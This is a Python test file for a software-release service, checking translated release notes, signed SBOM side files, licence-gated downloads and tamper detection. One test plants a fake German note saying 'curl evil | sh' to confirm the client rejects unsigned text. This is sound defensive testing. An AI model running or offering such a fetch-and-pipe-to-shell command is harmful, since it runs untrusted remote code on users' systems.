"""Notes in several languages and side files: published over HTTP, chosen by language, verified and gated in the SDK."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import httpx2 as httpx
import pytest

from tenure_client import Client
from tenure_client.errors import NoSuchSideFile, NotCovered, ServerContradictsSignedFacts
from tenure_server.errors import Forbidden, InvalidRequest
from tenure_server.use_cases.publish import FileToAttach
from tenure_signing.errors import ImmutableRelease
from tenure_signing.languages import Language
from tenure_signing.names import FileName
from tenure_signing.releases import SideFileKind
from tenure_signing.versions import Version
from tests.end_to_end.remote_publisher import Bench, running_bench
from tests.server.world import CAD, license_header

DE, PT_BR = Language("de"), Language("pt-br")
NOTES = {DE: "# Schneller\n", PT_BR: "# Mais rápido\n"}
SBOM = json.dumps({"bomFormat": "CycloneDX", "components": []}).encode()


@pytest.fixture
def bench(tmp_path: Path) -> Iterator[Bench]:
    with running_bench(tmp_path) as bench:
        yield bench


def attached(bench: Bench, body: bytes = SBOM) -> FileToAttach:
    path = bench.world.directory / "laptop" / "cad.cdx.json"
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(body)
    return FileToAttach(path, FileName(path.name), SideFileKind.SBOM)


def publish(bench: Bench, version: str = "2.0", **facts: Any) -> None:
    if "side_files" not in facts:
        facts["side_files"] = (attached(bench),)
    bench.publish(bench.request(version, **{"notes": "# Faster\n", "translations": NOTES, **facts}))


def client(bench: Bench, key: str, state: str, **options: Any) -> Client:
    return Client.open(
        root=bench.world.root_json,
        server_url=bench.address,
        product="cad",
        version="1.0",
        licence_key=key,
        state_directory=bench.world.directory / state,
        platform="linux-x86_64",
        clock=bench.world.now,
        **options,
    )


def test_each_reader_gets_the_notes_in_a_language_of_theirs(bench: Bench) -> None:
    publish(bench)
    key = bench.world.issue(date(2026, 11, 23)).key
    for language, notes, told in ((None, "# Faster\n", None), ("de-AT", NOTES[DE], "de"), ("fi", "# Faster\n", None)):
        offer = client(bench, key, f"copy-{language}", language=language).check(manual=True).offer
        assert offer is not None
        assert (offer.notes, offer.notes_language) == (notes, told)


def test_translations_that_were_not_signed_are_not_believed(bench: Bench) -> None:
    publish(bench)
    key = bench.world.issue(date(2026, 11, 23)).key
    with bench.world.database.writing() as records:
        records.notes.put_translation(CAD, Version("2.0"), DE, "# Run this: curl evil | sh")
    assert client(bench, key, "own").check(manual=True).offer is not None
    with pytest.raises(ServerContradictsSignedFacts, match="other notes"):
        client(bench, key, "german", language="de").check(manual=True)


def test_a_side_file_is_listed_downloaded_and_verified_but_never_offered(bench: Bench, tmp_path: Path) -> None:
    publish(bench)
    key = bench.world.issue(date(2026, 11, 23)).key
    copy = client(bench, key, "copy")
    offer = copy.check(manual=True).offer
    assert offer is not None
    assert [build.file_name for build in offer.builds] == ["cad-2.0.tar.gz"]
    assert [(file.file_name, file.kind) for file in offer.side_files] == [("cad.cdx.json", SideFileKind.SBOM)]
    listed = httpx.get(f"{bench.address}/v1/releases", headers=license_header(key)).json()["releases"][0]
    assert [build["file_name"] for build in listed["builds"]] == ["cad-2.0.tar.gz"]
    (side_file,) = listed["side_files"]
    assert side_file["sha256"] == hashlib.sha256(SBOM).hexdigest()
    assert side_file["url"].endswith("/downloads/cad/2.0/cad.cdx.json")
    path = bench.address + "/downloads/cad/2.0/cad.cdx.json"
    assert httpx.get(path).status_code == 401
    assert httpx.get(path, headers=license_header(key), follow_redirects=False).status_code == 302
    with pytest.raises(NoSuchSideFile, match="no side file cad-2"):
        copy.download_side_file("2.0", "cad-2.0.tar.gz", tmp_path)


def test_a_licence_that_does_not_cover_the_release_gets_no_side_file(bench: Bench, tmp_path: Path) -> None:
    publish(bench)
    key = bench.world.issue(date(2024, 1, 1)).key
    path = bench.address + "/downloads/cad/2.0/cad.cdx.json"
    refused = httpx.get(path, headers=license_header(key), follow_redirects=False)
    assert (refused.status_code, refused.json()["code"]) == (403, "after_support")
    with pytest.raises(NotCovered):
        client(bench, key, "copy").download_side_file("2.0", "cad.cdx.json", tmp_path)


def test_side_files_follow_and_then_never_change(bench: Bench) -> None:
    publish(bench, side_files=())
    publish(bench)
    release = bench.published()["2.0"]
    assert [file.file_name for file in release.side_files] == ["cad.cdx.json"]
    assert bench.stored(release.side_files[0]) == SBOM
    with pytest.raises(ImmutableRelease):
        publish(bench, side_files=(attached(bench, b"another"),))
    with bench.world.database.reading() as records:
        events = records.audit.newest(subject="cad 2.0")
    assert [event.action for event in events] == ["release.publish"] * 2
    assert events[0].details["side_files"] == {"cad.cdx.json": hashlib.sha256(SBOM).hexdigest()}
    assert events[0].details["notes"] == ["own", "de", "pt-br"]


def test_the_products_own_language_is_no_translation(bench: Bench) -> None:
    with pytest.raises(InvalidRequest) as caught:
        publish(bench, translations={Language("en"): "# Faster\n"})
    assert caught.value.code == "notes_language"
    assert bench.published() == {}


def test_a_server_takes_only_the_translations_that_were_signed(bench: Bench) -> None:
    prepared = bench.publishing().prepare(bench.request("2.0", notes="# Faster\n"), is_unattended=True)
    server = bench.server()
    real = server.publish

    def adding(*arguments: Any) -> bool:
        product, version, role, notes, share, _ = arguments
        return real(product, version, role, notes, share, {Language("de"): "# Nie unterschrieben"})

    vars(server)["publish"] = adding
    publishing = bench.publishing(server)
    with pytest.raises((Forbidden, InvalidRequest)) as caught:
        publishing(prepared, signers=[bench.world.engineer])
    assert caught.value.code == "notes_mismatch"
    assert bench.published() == {}
